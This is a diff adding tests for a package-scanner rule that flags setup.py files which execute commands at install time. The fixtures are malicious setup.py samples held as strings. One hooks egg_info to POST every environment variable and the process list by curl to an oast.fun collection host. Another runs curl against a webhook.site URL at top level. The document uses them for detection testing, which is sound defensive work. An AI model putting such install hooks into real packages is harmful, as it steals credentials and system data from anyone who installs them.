@@ -45,3 +45,20 @@ describe('install-time-exec: callbacks', () => {
     expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('critical');
   });
 });
+
+describe('install-time-exec: command lines built in pieces', () => {
+  it('reads an argv list kept in a name: curl posting the environment and ps output at egg_info (critical)', () => {
+    const src = `from setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nimport subprocess, os\ndef RunCommand():\n    env_vars = os.environ\n    output = subprocess.check_output(["ps", "-elf"]).decode("utf-8")\n    env_vars_string = "&".join([f"{key}={value}" for key, value in env_vars.items()])\n    curl_command = ["curl", "-X", "POST", "-d", f"'{env_vars_string}{output}'", "http://abcdefabcdef.oast.fun"]\n    subprocess.run(curl_command, check=True)\nclass RunEggInfoCommand(egg_info):\n    def run(self):\n        RunCommand()\n        egg_info.run(self)\nsetup(name='x', cmdclass={'egg_info': RunEggInfoCommand})\n`;
+    const f = hits('install-time-exec', { 'setup.py': src });
+    expect(maxSev(f)).not.toBe('low');
+    expect(f[0].message).toMatch(/uses the network \(subprocess\.run/);
+  });
+  it('reads a command whose URL part is computed: os.system("curl " + target) on setup.py top level (high)', () => {
+    const src = `from setuptools import setup\nfrom random import randint\nimport os\nsetup(name='x', version='0.0.1')\ntarget = 'https://webhook.site/91167127?' + str(randint(1, 100))\nos.system('curl ' + target)\n`;
+    expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('high');
+  });
+  it('keeps a compiler probe built in pieces low', () => {
+    const src = `from setuptools import setup\nimport subprocess, sys\ncc = ["gcc", "-dumpversion"]\nflags = subprocess.check_output(cc).decode()\nsubprocess.call("pkg-config --cflags " + sys.argv[0])\nsetup(name='x')\n`;
+    expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('low');
+  });
+});
